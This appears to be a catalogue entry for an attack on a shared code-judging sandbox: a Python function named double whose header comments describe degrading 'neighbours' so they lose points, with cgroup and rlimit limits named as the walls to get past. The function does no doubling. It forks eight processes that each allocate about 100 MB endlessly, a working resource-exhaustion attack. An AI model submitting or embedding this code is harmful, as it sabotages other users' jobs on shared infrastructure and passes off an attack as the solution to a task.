# DESC: takes and gives back just under the limit, in many processes, many times a second
# SUCCESS: neighbours that lose points
# DETECT: neighbours
# KIND: cell
# SOLVED: others
# WALLS: cgroup rlimits judge


def double(x):
    import os, time

    for _ in range(8):
        if os.fork() == 0:
            while True:
                bytearray(b"x") * (100 << 20)
    time.sleep(60)
